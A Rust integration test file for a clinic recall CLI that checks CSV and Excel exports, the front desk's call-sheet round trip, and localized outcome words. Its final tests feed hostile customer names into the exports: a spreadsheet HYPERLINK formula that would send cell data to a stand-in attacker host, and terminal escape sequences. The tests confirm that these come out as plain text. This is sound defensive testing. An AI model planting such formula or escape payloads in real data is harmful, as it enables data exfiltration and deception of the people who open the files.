//! What recall writes for people to open in Excel or read in a terminal,
//! through the real binary: CSV with a byte-order mark and headers in the
//! reader's language, workbooks read back by an independent reader
//! (Python's openpyxl), the front desk's call sheet exported, filled in and
//! taken back, and customer data that cannot inject formulas into a
//! spreadsheet or escape sequences into a terminal.

mod common;

use std::path::Path;
use std::process::Command;

use common::{Clinic, stdout};
use predicates::prelude::*;

const BOM: &[u8] = b"\xEF\xBB\xBF";

// 2099-01-05 is a Monday: customers who first came on Sunday get their
// day-1 call (`new_day1_call`) from Monday's tick, planned by dispatch.
const MONDAY: &str = "2099-01-05";

/// Debian's python3 with openpyxl: an Excel reader that is not recall's.
const PYTHON: &str = "/usr/bin/python3";

/// Runs a Python script with openpyxl; its standard output.
fn openpyxl(script: &str, args: &[&Path]) -> String {
    let has_openpyxl = Command::new(PYTHON)
        .args(["-c", "import openpyxl"])
        .status()
        .is_ok_and(|s| s.success());
    assert!(
        has_openpyxl,
        "the workbook tests read xlsx files with Debian's python3-openpyxl, which is missing: \
         apt-get install python3-openpyxl (.ci/run installs it)"
    );
    let out = Command::new(PYTHON)
        .arg("-c")
        .arg(script)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// A clinic whose phone channel makes call tasks for 小林 (20 a day), with
/// these customers (id, name) first seen on Sunday, each with a day-1 call
/// task planned for Monday.
fn front_desk(customers: &[(&str, &str)]) -> Clinic {
    let clinic = Clinic::new();
    let config = std::fs::read_to_string(clinic.config()).unwrap().replace(
        "[channels.phone]\nsender = \"log\"\ncost = 2.0",
        "[senders.calls]\nkind = \"phone_tasks\"\nstaff = [{ name = \"小林\", daily_capacity = 20 }]\nworking_hours = \"10:00-19:00\"\n\n[channels.phone]\nsender = \"calls\"\ncost = 2.5",
    );
    assert!(config.contains("kind = \"phone_tasks\""));
    std::fs::write(clinic.config(), config).unwrap();
    let mut people = csv::Writer::from_writer(Vec::new());
    let mut visits = String::from("external_id,customer_id,at\n");
    // First seen on Sunday: new customers, whom a tick judges without
    // onboarding (`recall onboard`).
    people
        .write_record(["客户编号", "姓名", "手机", "首次到院"])
        .unwrap();
    for (i, (id, name)) in customers.iter().enumerate() {
        people
            .write_record([*id, *name, &format!("138001380{i:02}"), "2099-01-04 10:00"])
            .unwrap();
        visits.push_str(&format!(
            "V{i},\"{}\",2099-01-04 10:00\n",
            id.replace('"', "\"\"")
        ));
    }
    for (kind, text) in [
        ("customers", people.into_inner().unwrap()),
        ("visits", visits.into_bytes()),
    ] {
        let file = clinic.path().join(format!("{kind}.csv"));
        std::fs::write(&file, text).unwrap();
        clinic
            .recall()
            .args(["import", kind])
            .arg(&file)
            .assert()
            .success();
    }
    clinic
        .recall()
        .args(["tick", "--at", &format!("{MONDAY} 09:00")])
        .assert()
        .success();
    clinic
        .recall()
        .args(["dispatch", "--at", &format!("{MONDAY} 11:00")])
        .assert()
        .success();
    assert_eq!(
        clinic.count("SELECT count(*) FROM call_tasks WHERE status = 'open'"),
        customers.len() as i64,
        "one call task per customer"
    );
    clinic
}

#[test]
fn log_csv_starts_with_a_bom_and_speaks_the_language_asked() {
    let clinic = front_desk(&[("C1", "王丽"), ("C2", "李娜")]);
    let log = |args: &[&str]| {
        let out = clinic
            .recall()
            .args(["log", "--format", "csv"])
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    let zh = log(&["--lang", "zh"]);
    assert!(zh.starts_with(BOM), "a BOM for Excel");
    let text = String::from_utf8(zh[BOM.len()..].to_vec()).unwrap();
    assert!(
        text.starts_with("编号,创建时间,计划时间,发送时间,客户编号,规则,池,渠道,模板,状态,"),
        "{text}"
    );
    assert!(text.contains("王丽") || text.contains("王女士"), "{text}");
    let en = log(&["--lang", "en"]);
    assert!(en.starts_with(BOM));
    assert!(
        en[BOM.len()..]
            .starts_with(b"id,created,due,sent,customer,rule,pool,channel,template,status,"),
        "{}",
        String::from_utf8_lossy(&en)
    );
    let plain = log(&["--lang", "en", "--no-bom"]);
    assert!(plain.starts_with(b"id,created,"), "--no-bom: no mark");
    assert_eq!(plain, en[BOM.len()..], "the same rows, without the mark");
    // The moves, and JSON, which keeps its English keys whatever the language.
    let moves = log(&["--moves", "--lang", "zh"]);
    assert!(
        moves.starts_with("\u{feff}时间,客户编号,原池,新池,规则,原因\n".as_bytes()),
        "{}",
        String::from_utf8_lossy(&moves)
    );
    let json = clinic
        .recall()
        .args(["log", "--format", "json", "--lang", "zh"])
        .output()
        .unwrap();
    let entries: Vec<serde_json::Value> = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(entries[0]["channel"], "phone");
    assert!(entries[0]["id"].is_i64());

    // Status too: every CSV recall writes has the mark and the reader's headers.
    let status = clinic
        .recall()
        .args(["status", "--format", "csv", "--lang", "zh"])
        .output()
        .unwrap();
    assert!(
        status
            .stdout
            .starts_with("\u{feff}类别,名称,状态,数量\n".as_bytes()),
        "{}",
        String::from_utf8_lossy(&status.stdout)
    );
}

#[test]
fn log_writes_a_workbook_with_times_as_dates() {
    let clinic = front_desk(&[("C1", "王丽")]);
    let file = clinic.path().join("log.xlsx");
    clinic
        .recall()
        .args(["log", "--lang", "zh", "--output"])
        .arg(&file)
        .assert()
        .success()
        .stderr(predicate::str::contains("log.xlsx"));
    let read = openpyxl(
        r#"
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
print(ws.title)
print(ws["A1"].value, ws["B1"].value, ws["P1"].value)
print(type(ws["A2"].value).__name__, type(ws["B2"].value).__name__, ws["B2"].number_format)
print(ws.freeze_panes)
"#,
        &[&file],
    );
    let lines: Vec<&str> = read.lines().collect();
    assert_eq!(lines[0], "触达记录");
    assert_eq!(lines[1], "编号 创建时间 内容");
    assert_eq!(lines[2], "int datetime yyyy-mm-dd hh:mm");
    assert_eq!(lines[3], "A2", "the header row is frozen");
}

/// The front desk's day: export the call sheet, fill it in (Chinese
/// outcome words, as Excel on Chinese Windows saves CSV: GBK), take it
/// back; taking it back again changes nothing; a sheet with a bad row is
/// refused whole, with the row's line.
#[test]
fn the_call_sheet_goes_out_and_comes_back_filled_in() {
    let clinic = front_desk(&[
        ("C1", "王丽"),
        ("C2", "李娜"),
        ("C3", "赵敏"),
        ("C4", "孙磊"),
    ]);
    let sheet = clinic.path().join("calls.csv");
    clinic
        .recall()
        .args([
            "tasks", "export", "--date", MONDAY, "--lang", "zh", "--output",
        ])
        .arg(&sheet)
        .assert()
        .success();
    let bytes = std::fs::read(&sheet).unwrap();
    assert!(bytes.starts_with(BOM));
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        [
            "编号",
            "日期",
            "负责人",
            "客户编号",
            "姓名",
            "电话",
            "结果",
            "备注",
            "规则",
            "第几次",
            "话术"
        ]
    );
    let mut rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    rows.sort_by(|a, b| a[3].cmp(&b[3]));
    assert_eq!(rows.len(), 4);
    assert!(
        rows.iter().all(|r| r[6].is_empty() && r[7].is_empty()),
        "to fill in"
    );
    // C1 booked, C2 no answer, C3 opted out, C4 not called yet.
    for (row, (outcome, note)) in rows.iter_mut().zip([
        ("已预约", "周六下午到院"),
        ("未接通", ""),
        ("退订", "不要再打"),
        ("", ""),
    ]) {
        row[6] = outcome.into();
        row[7] = note.into();
    }
    let write_gbk = |rows: &[Vec<String>]| {
        let mut csv = csv::Writer::from_writer(Vec::new());
        csv.write_record(&headers).unwrap();
        for row in rows {
            csv.write_record(row).unwrap();
        }
        let text = String::from_utf8(csv.into_inner().unwrap()).unwrap();
        let (gbk, _, unmappable) = encoding_rs::GBK.encode(&text);
        assert!(!unmappable);
        std::fs::write(&sheet, &gbk).unwrap();
    };
    write_gbk(&rows);
    let import = || {
        clinic
            .recall()
            .args([
                "tasks",
                "import",
                "--lang",
                "en",
                "--at",
                &format!("{MONDAY} 15:00"),
            ])
            .arg(&sheet)
            .output()
            .unwrap()
    };
    let first = import();
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    assert!(
        stdout(&first)
            .contains("3 outcome(s) recorded, 0 already recorded, 1 row(s) without an outcome"),
        "{}",
        stdout(&first)
    );
    let outcomes = |clinic: &Clinic| {
        let conn = rusqlite::Connection::open(clinic.database()).unwrap();
        let mut stmt = conn
            .prepare(
                "SELECT c.external_id || ' ' || t.status || ' ' || coalesce(t.outcome, '-') || ' ' || coalesce(t.note, '-')
                 FROM call_tasks t JOIN customers c ON c.id = t.customer_id WHERE t.attempt = 1 ORDER BY c.external_id",
            )
            .unwrap();
        stmt.query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .collect::<Result<Vec<_>, _>>()
            .unwrap()
    };
    assert_eq!(
        outcomes(&clinic),
        [
            "C1 done reached_booked 周六下午到院",
            "C2 done no_answer -",
            "C3 done opt_out 不要再打",
            "C4 open - -",
        ]
    );
    assert_eq!(
        clinic.count("SELECT consent_phone FROM customers WHERE external_id = 'C3'"),
        0,
        "退订 withdraws phone consent"
    );
    let history = clinic.history();
    let followups = clinic.count("SELECT count(*) FROM followups");
    assert_eq!(followups, 3, "each recorded call is a follow-up");

    // The same sheet again: nothing changes.
    let again = import();
    assert!(
        again.status.success(),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    assert!(
        stdout(&again).contains("0 outcome(s) recorded, 3 already recorded"),
        "{}",
        stdout(&again)
    );
    assert_eq!(clinic.count("SELECT count(*) FROM followups"), followups);
    assert_eq!(clinic.history(), history);

    // A sheet with problems is refused whole, each problem with its line:
    // C4 (row 5) gets a word that is no outcome, a row names a task that
    // does not exist (row 6), and C1's booked call is now "declined"
    // (line 2): nothing is recorded.
    rows[3][6] = "已预定".into();
    rows[0][6] = "拒绝".into();
    rows.push(vec![
        "9999".into(),
        MONDAY.into(),
        "小林".into(),
        "C9".into(),
        "某人".into(),
        String::new(),
        "有意向".into(),
        String::new(),
        "r".into(),
        "1".into(),
        String::new(),
    ]);
    write_gbk(&rows);
    let refused = import();
    assert!(!refused.status.success());
    let errors = String::from_utf8_lossy(&refused.stderr);
    let id = |customer: &str| {
        clinic.count(&format!(
            "SELECT t.id FROM call_tasks t JOIN customers c ON c.id = t.customer_id WHERE c.external_id = '{customer}'"
        ))
    };
    assert!(
        errors.contains(&format!(
            "calls.csv, line 2: task {} (C1) is already closed as reached_booked; the sheet says reached_declined",
            id("C1")
        )),
        "{errors}"
    );
    // The scripts span several lines: the editor's line and the
    // spreadsheet's row differ, and both are named.
    assert!(
        errors
            .contains("(row 5 in a spreadsheet): unknown outcome `已预定`: did you mean `已预约`?"),
        "{errors}"
    );
    assert!(
        errors.contains("(row 6 in a spreadsheet): there is no call task 9999"),
        "{errors}"
    );
    assert!(
        errors.contains("3 problem(s)") && errors.contains("nothing was recorded"),
        "{errors}"
    );
    assert_eq!(clinic.count("SELECT count(*) FROM followups"), followups);
    assert_eq!(clinic.history(), history);
}

#[test]
fn the_call_sheet_as_a_workbook_round_trips_through_excel() {
    let clinic = front_desk(&[("C1", "王丽"), ("C2", "李娜")]);
    let book = clinic.path().join("calls.xlsx");
    clinic
        .recall()
        .args([
            "tasks", "export", "--date", MONDAY, "--lang", "zh", "--output",
        ])
        .arg(&book)
        .assert()
        .success();
    // Filled in with openpyxl as a person would in Excel: outcome in G,
    // note in H, under the Chinese headers.
    let read = openpyxl(
        r#"
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.active
assert ws["G1"].value == "结果" and ws["H1"].value == "备注", (ws["G1"].value, ws["H1"].value)
for row in range(2, ws.max_row + 1):
    ws.cell(row=row, column=7, value="有意向" if ws.cell(row=row, column=4).value == "C1" else "空号")
ws["H2"] = "下周再联系"
print(type(ws["A2"].value).__name__, ws.freeze_panes)
wb.save(sys.argv[1])
"#,
        &[&book],
    );
    assert_eq!(
        read.trim(),
        "int A2",
        "ids are numbers; the header is frozen"
    );
    clinic
        .recall()
        .args(["tasks", "import", "--lang", "en"])
        .arg(&book)
        .assert()
        .success()
        .stdout(predicate::str::contains("2 outcome(s) recorded"));
    assert_eq!(
        clinic.count("SELECT count(*) FROM call_tasks WHERE outcome = 'reached_interested'"),
        1
    );
    assert_eq!(
        clinic.count("SELECT count(*) FROM call_tasks WHERE outcome = 'wrong_number'"),
        1
    );
    assert_eq!(
        clinic.count("SELECT count(*) FROM call_tasks WHERE note = '下周再联系'"),
        1
    );
}

#[test]
fn tasks_done_takes_the_chinese_word_and_its_help_lists_them_all() {
    let clinic = front_desk(&[("C1", "王丽")]);
    let id = clinic.count("SELECT id FROM call_tasks");
    clinic
        .recall()
        .args([
            "tasks",
            "done",
            &id.to_string(),
            "--outcome",
            "已预约",
            "--lang",
            "en",
        ])
        .args(["--at", &format!("{MONDAY} 14:00")])
        .assert()
        .success()
        .stdout(predicate::str::contains("recorded as reached_booked"));
    assert_eq!(
        clinic.count("SELECT count(*) FROM call_tasks WHERE outcome = 'reached_booked'"),
        1
    );
    let help = stdout(
        &clinic
            .recall()
            .args(["tasks", "done", "--help"])
            .output()
            .unwrap(),
    );
    for (code, word) in [
        ("reached_booked", "已预约"),
        ("reached_interested", "有意向"),
        ("reached_declined", "拒绝"),
        ("no_answer", "未接通"),
        ("wrong_number", "空号"),
        ("opt_out", "退订"),
    ] {
        assert!(
            help.contains(&format!("{code} ({word})")),
            "{code} {word}: {help}"
        );
    }
}

/// Names a hostile customer might be given: each would be a formula in
/// Excel, and must stay text.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
    "+1",
    "-2+3",
    "@SUM(1,2)",
];

#[test]
fn formula_names_are_exported_as_text_in_csv_and_xlsx() {
    let customers: Vec<(String, &str)> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, name)| (format!("C{i}"), *name))
        .chain([("-9".to_string(), "负号编号")])
        .collect();
    let refs: Vec<(&str, &str)> = customers.iter().map(|(id, n)| (id.as_str(), *n)).collect();
    let clinic = front_desk(&refs);

    let csv = clinic
        .recall()
        .args(["tasks", "export", "--date", MONDAY, "--lang", "en"])
        .output()
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (customer, name, attempt) = (at("customer"), at("name"), at("attempt"));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    for formula in FORMULAS {
        assert!(
            rows.iter().any(|r| r[name] == format!("'{formula}")),
            "{formula} is neutralised: {rows:?}"
        );
    }
    assert!(
        rows.iter().any(|r| &r[customer] == "'-9"),
        "ids are text too"
    );
    assert!(
        rows.iter().all(|r| &r[attempt] == "1"),
        "numbers stay numbers"
    );
    assert!(
        rows.iter()
            .all(|r| !r[name].starts_with(['=', '+', '-', '@'])),
        "no cell starts a formula"
    );

    let book = clinic.path().join("calls.xlsx");
    clinic
        .recall()
        .args([
            "tasks", "export", "--date", MONDAY, "--lang", "en", "--output",
        ])
        .arg(&book)
        .assert()
        .success();
    let cells = openpyxl(
        r#"
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
for row in ws.iter_rows(min_row=2):
    for cell in row:
        if cell.data_type == "f":
            print("FORMULA", cell.coordinate, cell.value)
    print("NAME", row[4].data_type, row[4].value)
    print("ID", row[3].data_type, row[3].value)
    print("ATTEMPT", type(row[9].value).__name__, row[9].value)
"#,
        &[&book],
    );
    assert!(!cells.contains("FORMULA"), "{cells}");
    for formula in FORMULAS {
        assert!(
            cells.lines().any(|l| l == format!("NAME s '{formula}")),
            "{formula}: {cells}"
        );
    }
    assert!(cells.lines().any(|l| l == "ID s '-9"), "{cells}");
    assert!(
        cells
            .lines()
            .filter(|l| l.starts_with("ATTEMPT"))
            .all(|l| l == "ATTEMPT int 1"),
        "numbers stay numbers: {cells}"
    );
}

#[test]
fn escape_sequences_in_names_print_harmlessly() {
    let clinic = front_desk(&[("C1", "王\u{1b}]0;evil\u{7}丽"), ("C2", "\u{1b}[31m红色")]);
    for args in [vec!["tasks", "list", "--date", MONDAY], vec!["log"]] {
        let out = clinic.recall().args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}");
        let text = stdout(&out);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{args:?} printed a raw escape: {text:?}"
        );
        if args[0] == "tasks" {
            assert!(
                text.contains("王\\x1b]0;evil\\x07丽") && text.contains("\\x1b[31m红色"),
                "{args:?}: visibly escaped: {text}"
            );
        }
    }
}
